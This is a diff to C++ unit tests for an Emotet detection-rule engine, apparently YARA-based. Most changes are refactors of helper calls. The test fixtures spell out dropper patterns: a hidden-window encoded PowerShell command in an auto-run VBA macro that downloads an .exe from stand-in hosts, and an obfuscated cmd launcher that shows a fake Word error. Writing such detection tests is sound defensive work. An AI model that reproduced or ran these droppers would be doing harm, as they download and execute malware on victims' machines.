@@ -14,7 +14,7 @@
 #include "unit/test_files.h"
 
 using namespace emogate;
-using namespace emotet_fixtures;
+using namespace emogate::test;
 
 namespace {
 
@@ -135,8 +135,9 @@ TEST(EmotetRules, VbaWmiHiddenProcessNegative) {
 }
 
 TEST(EmotetRules, VbaEncodedPowerShellPositive) {
-  std::string ps = base64(utf16le(
-      "$urls = 'http://a.example/x/','http://b.example/y/';foreach($u in $urls){try{(New-Object Net.WebClient).DownloadFile($u,$env:TEMP+'\\\\a.exe');break}catch{}}"));
+  std::string ps = base64(
+      utf16le("$urls = 'http://a.example/x/','http://b.example/y/';foreach($u in $urls){try{(New-Object Net.WebClient).DownloadFile($u,$env:TEMP+'\\\\a.exe');break}catch{}}"),
+      false);
   std::string vba = "Sub Document_Open()\n  c = \"powershell -w hidden -e " + ps + "\"\nEnd Sub\n";
   EXPECT_TRUE(hit(vba, "Emotet_VBA_Encoded_PowerShell_2019", "vba_source"));
 }
@@ -151,7 +152,7 @@ TEST(EmotetRules, VbaEncodedPowerShellNegative) {
     x ^= x << 13, x ^= x >> 7, x ^= x << 17;
     blob.append(reinterpret_cast<const char*>(&x), 8);
   }
-  std::string img = base64(blob);
+  std::string img = base64(blob, false);
   ASSERT_NE(img.find("JAB"), std::string::npos);
   std::string vba = "Sub AutoOpen()\n  logo = \"" + img + "\"\n  InsertLogo logo\nEnd Sub\n";
   EXPECT_TRUE(hits(vba, "vba_source").empty());
@@ -159,7 +160,7 @@ TEST(EmotetRules, VbaEncodedPowerShellNegative) {
 
 TEST(EmotetRules, WordFakeErrorMsgPositive) {
   std::string cmd = "cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & "
-                    "P^Ow^er^she^L^L -w hidden -ENCOD " + base64(utf16le("Set ('U'+'26sT') ([TYpe]('{3}{0}'))"));
+                    "P^Ow^er^she^L^L -w hidden -ENCOD " + base64(utf16le("Set ('U'+'26sT') ([TYpe]('{3}{0}'))"), false);
   EXPECT_TRUE(hit(cmd, "Emotet_Word_Fake_Error_Msg_Launcher_2020", "vba_source"));
 }
 
@@ -274,7 +275,7 @@ TEST(EmotetRules, EveryRuleHasMetaAndATest) {
   std::set<std::string> found;
   for (const auto& e : fs::directory_iterator(std::string(EMOGATE_SOURCE_DIR) + "/rules")) {
     if (e.path().extension() != ".yar") continue;
-    std::string text = testutil::slurp(e.path());
+    std::string text = slurp(e.path());
     std::size_t pos = 0;
     while ((pos = text.find("\nrule ", pos)) != std::string::npos) {
       pos += 6;
@@ -300,7 +301,7 @@ TEST(EmotetRules, NoHitsOnSharedCorpus) {
     if (!e.is_regular_file() || e.path().filename() == "MANIFEST.tsv") continue;
     // None of the corpus files is an Emotet dropper (the manifests describe
     // test files of parsers and filters), so any hit is a false positive.
-    auto h = hits(testutil::slurp(e.path()));
+    auto h = hits(slurp(e.path()));
     EXPECT_TRUE(h.empty()) << e.path() << ": " << *h.begin();
     ++files;
   }
